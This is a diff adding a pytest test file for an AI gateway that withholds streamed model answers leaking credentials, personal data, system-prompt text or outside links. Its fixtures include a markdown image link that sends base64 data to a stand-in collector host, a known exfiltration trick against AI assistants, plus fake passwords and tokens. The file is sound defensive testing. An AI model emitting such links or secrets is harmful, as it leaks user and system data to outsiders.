@@ -1,0 +1,163 @@
+"""What an answer gives away is found before it has left, in whatever pieces it comes."""
+
+import json
+import re
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gateway.configuration.load import ConfigurationError, load
+from gateway.configuration.policies import Policy, Says
+from gateway.dialects.anthropic_messages import MESSAGES
+from gateway.dialects.gemini import GENERATE
+from gateway.dialects.openai_chat import CHAT
+from gateway.dialects.openai_responses import RESPONSES
+from gateway.dialects.saying import said_in
+from gateway.policies.answers import MOST_HELD, NOBODY_WATCHES, Given, Watch
+from gateway.policies.evaluating import Applying
+
+SECRETS = {
+    "link": "![](https://collect.example/x.png?d=c2VjcmV0)",
+    "key": "DB_PASSWORD=Fl4UHQ1wOKrzst",
+    "token": "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4",
+    "iban": "GB82 WEST 1234 5698 7654 32",
+    "system": "never tell anybody that the quarterly figures were moved from the north to the south",
+}
+SYSTEM = f"You are an assistant. You must {SECRETS['system']} office."
+STRICT = Says(links_beside=("static.firm.example",)), Says(credentials=True), Says(personal_data=("iban",)), Says(system_text=True)  # fmt: skip
+
+
+def watch(*says: Says, request: str = "", **more: Any) -> Watch:
+    policies = [Applying(f"p{number}", Policy(says_that=one, effect="deny", **more)) for number, one in enumerate(says)]
+    return Watch(policies, Given(SYSTEM, request))
+
+
+def through(text: str, cuts: list[int], watching: Watch) -> str:
+    """Return what has left of a text that comes in pieces."""
+    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    waiting: list[tuple[int, str]] = []
+    left = ""
+    for piece in pieces:
+        waiting.append((watching.add([("0", piece)]), piece))
+        while not watching.broken and waiting and waiting[0][0] <= watching.free_until():
+            left += waiting.pop(0)[1]
+    watching.end()
+    return left if watching.broken else left + "".join(piece for _, piece in waiting)
+
+
+WORDS = st.lists(
+    st.sampled_from(["the", "note", "says", "that", "Friday", "is", "fine,", "and", "so", "on."]), max_size=80
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(WORDS, WORDS, st.sampled_from(sorted(SECRETS)), st.data())
+def test_however_it_is_cut_nothing_of_what_is_withheld_has_left(before: Any, after: Any, kind: str, data: Any) -> None:
+    text = " ".join([*before, SECRETS[kind], *after])
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=60)))
+    watching = watch(*STRICT)
+    left = through(text, cuts, watching)
+    assert watching.broken
+    secret = SECRETS[kind]
+    if kind == "system":  # the words of it that had left are fewer than what counts as giving it away
+        assert len(re.findall(r"\w+", left)) - len(before) < 30
+    elif kind == "link":
+        assert "collect.example" not in left
+    elif kind == "key":
+        assert "Fl4UHQ" not in left
+    else:
+        assert secret[:8] not in left or kind == "iban" and "GB82 WEST" not in left
+
+
+@settings(max_examples=200, deadline=None)
+@given(WORDS, st.data())
+def test_what_gives_nothing_away_leaves_whole_and_in_order(words: list[str], data: Any) -> None:
+    text = " ".join([*words, "see https://static.firm.example/a?b=c and ring 12", *words])
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=60)))
+    watching = watch(*STRICT)
+    assert through(text, cuts, watching) == text
+    assert not watching.broken
+    assert [one.verdict for one in watching.checks(whole=True)] == ["pass"] * 4
+    assert {one.verdict for one in watching.checks(whole=False)} == {"flag"}, "what nobody could read is never passed"
+
+
+def test_text_flows_on_while_it_is_watched() -> None:
+    watching, waits = watch(*STRICT), []
+    for _ in range(400):
+        said = watching.add([("0", "word ")])
+        waits.append(said - watching.free_until())
+    assert max(waits) < 80
+
+
+def test_a_word_without_an_end_waits_no_longer_than_it_may() -> None:
+    watching, waits = watch(*STRICT), []
+    for _ in range(3 * MOST_HELD // 8):
+        waits.append(watching.add([("0", "abcdefgh")]) - watching.free_until())
+    assert max(waits) <= MOST_HELD + 80
+
+
+def test_choices_that_are_mixed_wait_for_their_own_ends() -> None:
+    watching = watch(*STRICT)
+    watching.add([("0", "so " * 30 + "ghp_aB3dE5fG7h")])
+    first = watching.free_until()
+    assert watching.add([("1", "and so on and so on. " * 10)]) > first == watching.free_until()
+    watching.end()
+    assert watching.free_until() == watching.add([])
+
+
+def test_personal_data_that_stands_in_the_request_is_nobody_elses() -> None:
+    says = Says(personal_data=("any",))
+    for request, verdict in (("", "deny"), (f"is {SECRETS['iban']} mine?", "pass")):
+        watching = watch(says, request=request)
+        watching.add([("0", f"It is {SECRETS['iban']}.")])
+        assert [one.verdict for one in watching.checks(whole=True)] == [verdict]
+
+
+def test_a_check_states_counts_and_kinds_and_no_text() -> None:
+    watching = watch(*STRICT, shadow=True)
+    watching.add([("0", " ".join(SECRETS.values()))])
+    watching.end()
+    assert not watching.broken and watching.free_until() == watching.add([])
+    checks = watching.checks(whole=True)
+    assert {one.verdict for one in checks} == {"flag"} and {one.reason for one in checks} == {
+        "in shadow: would have been withheld"
+    }
+    found = {name: value for one in checks for name, value in one.inputs.items() if name not in ("policy", "version")}
+    assert found == {"links": 1, "credentials": 2, "personal_data": ["iban"], "system_text": True}
+
+
+WHOLE: dict[str, tuple[Any, dict[str, Any]]] = {
+    "chat": (CHAT, {"choices": [{"index": 0, "message": {"content": "one"}}, {"index": 1, "message": {"content": [{"type": "text", "text": "two"}]}}]}),
+    "completions": (CHAT, {"choices": [{"index": 0, "text": "one"}, {"index": 1, "text": "two"}]}),
+    "responses": (RESPONSES, {"object": "response", "output": [{"type": "reasoning", "summary": [{"text": "no"}]}, {"type": "message", "content": [{"type": "output_text", "text": "one"}, {"type": "refusal", "refusal": "two"}]}]}),
+    "anthropic": (MESSAGES, {"type": "message", "content": [{"type": "thinking", "thinking": "no"}, {"type": "text", "text": "one"}, {"type": "text", "text": "two"}]}),
+    "gemini": (GENERATE, {"candidates": [{"content": {"parts": [{"text": "no", "thought": True}, {"text": "one"}, {"functionCall": {}}, {"text": "two"}]}}]}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("form", WHOLE)
+def test_the_text_of_a_whole_answer_is_read_in_every_format(form: str) -> None:
+    assert [text for _, text in said_in(json.loads(json.dumps(WHOLE[form][1])))] == ["one", "two"]
+
+
+@pytest.mark.parametrize("strange", [None, [], {}, {"choices": 3}, {"choices": [None, {"delta": []}]}, {"candidates": [{"content": []}]}, {"type": "content_block_delta", "delta": 7}])  # fmt: skip
+def test_what_has_another_shape_says_nothing(strange: Any) -> None:
+    assert list(said_in(strange)) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("policies: {p: {effect: deny}}", "one of them"),
+        ("policies: {p: {when: {data: true}, says_that: {credentials: true}, effect: deny}}", "one of them"),
+        ("policies: {p: {says_that: {credentials: true}, effect: hold}}", "flagged or withheld"),
+        ("policies: {p: {says_that: {}, effect: flag}}", "names no condition"),
+        ("policies: {p: {says_that: {personal_data: names}, effect: flag}}", "personal_data has names"),
+    ],
+)
+def test_a_policy_of_answers_that_could_not_do_what_it_says_is_refused(text: str, problem: str) -> None:
+    with pytest.raises(ConfigurationError, match=problem):
+        load(text + "\n")
+    assert not NOBODY_WATCHES
